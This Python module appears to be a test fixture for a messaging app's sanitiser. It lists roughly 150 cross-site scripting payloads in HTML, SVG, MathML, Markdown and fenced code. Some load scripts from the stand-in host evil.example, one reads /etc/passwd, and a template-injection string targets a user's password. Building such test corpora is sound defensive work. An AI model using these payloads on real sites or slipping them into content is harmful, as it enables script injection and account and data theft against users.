"""Strings that ran as script somewhere, or tried to: for messages, names, titles, whatever a person can write."""

from __future__ import annotations

_RAW_HTML = r"""
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/x>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script>alert(1)//
</script><script>alert(1)</script>
</p><script>alert(1)</script>
</code></pre><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
--><script>alert(1)</script>
]]><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<!--><img src=x onerror=alert(1)>-->
<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<img/src/onerror=alert(1)>
<img src="x` `<script>alert(1)</script>"` `>
<img src=`x`onerror=alert(1)>
<img srcset="x 1x" onerror=alert(1)>
<image src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script href=data:,alert(1) />
<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>#x">
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<title><a href="</title><img src=x onerror=alert(1)>">
<textarea><a title="</textarea><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<iframe src=javascript:alert(1)>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">
<frameset onload=alert(1)>
<object data=javascript:alert(1)>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<embed src=javascript:alert(1)>
<applet code=x archive=//evil.example/x.jar>
<base href=javascript:alert(1)//>
<link rel=stylesheet href=//evil.example/x.css>
<link rel=import href=data:text/html,<script>alert(1)</script>>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<style>@import '//evil.example/x.css';</style>
<style>*{background:url(javascript:alert(1))}</style>
<p style="background:url(javascript:alert(1))">x</p>
<p style="position:fixed;inset:0;z-index:9999">x</p>
<div style="width:expression(alert(1))">x</div>
<xss style="animation-name:x" onanimationstart=alert(1)></xss>
<body onload=alert(1)>
<body background=javascript:alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<button formaction=javascript:alert(1)>x</button>
<form action=javascript:alert(1)><input type=submit>
<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>
<isindex action=javascript:alert(1) type=image>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<video poster=javascript:alert(1)></video>
<audio src=x onerror=alert(1)></audio>
<details open ontoggle=alert(1)>x</details>
<marquee onstart=alert(1)>x</marquee>
<keygen autofocus onfocus=alert(1)>
<table background=javascript:alert(1)>
<a href=javascript:alert(1)>x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href="&#106;avascript:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a onmouseover=alert(1)>x</a>
<a id=x name=getElementById>clobber</a>
<b onclick=alert(1)>x</b>
<x onclick=alert(1) tabindex=1 autofocus>x</x>
<span class="mention" data-username="x" onclick=alert(1)>@x</span>
<portal src=javascript:alert(1)>
<dialog open onclose=alert(1)>x</dialog>
<chat-app data-socket=//evil.example/>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
%3Cscript%3Ealert(1)%3C/script%3E
＜script＞alert(1)＜/script＞
{{constructor.constructor('alert(1)')()}}
{% debug %}{{ request.user.password }}
${alert(1)}
"""

_MARKDOWN = r"""
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](javascript://%0aalert(1))
[x](javascript&colon;alert(1))
[x](&#106;avascript:alert(1))
[x](\javascript:alert(1))
[x](<javascript:alert(1)>)
[x]( javascript:alert(1) )
[x](vbscript:msgbox(1))
[x](data:text/html,<script>alert(1)</script>)
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](file:///etc/passwd)
[x](blob:https://evil.example/1)
[x](//evil.example)
[x](/accounts/logout/)
[x](https://evil.example" onmouseover="alert(1))
[x](https://evil.example 'x" onmouseover="alert(1)')
[x](https://evil.example/"onmouseover=alert(1)//)
[x](https://evil.example/<script>alert(1)</script>)
[<img src=x onerror=alert(1)>](https://evil.example)
[x\](https://evil.example/)<script>alert(1)</script>
[x][1] [1]: javascript:alert(1)
![x](javascript:alert(1))
![x](https://evil.example/pixel.png)
![x" onerror="alert(1)](x)
<javascript:alert(1)>
<data:text/html,alert(1)>
<https://evil.example/"onclick="alert(1)>
https://evil.example/"onmouseover="alert(1)
https://evil.example/'onmouseover='alert(1)
https://evil.example/<script>alert(1)</script>
http://javascript:alert(1)
javascript:alert(1)
`<script>alert(1)</script>`
``</code><script>alert(1)</script>``
**<script>alert(1)</script>**
> <script>alert(1)</script>
- <script>alert(1)</script>
1. <img src=x onerror=alert(1)>
~~<svg onload=alert(1)>~~
@mina"onclick="alert(1)
@<script>alert(1)</script>
#tea"onclick="alert(1)
#<script>alert(1)</script>
"""

_LINES = [
    "```html\n<script>alert(1)</script>\n```",
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"onclick="alert(1)\nx\n```',
    '```html"><script>alert(1)</script>\nx\n```',
    "```python\n'</span><script>alert(1)</script>'\n```",
    "<script>\nalert(1)\n</script>",
    "<div>\n\n<script>alert(1)</script>\n\n</div>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](java\nscript:alert(1))",
    "<img src=x\nonerror=alert(1)>",
    "# <script>alert(1)</script>",
    "    <script>alert(1)</script>",
    "a | b\n--|--\n<script>alert(1)</script> | x",
]

ATTACKS = [*_RAW_HTML.strip().splitlines(), *_MARKDOWN.strip().splitlines(), *_LINES]
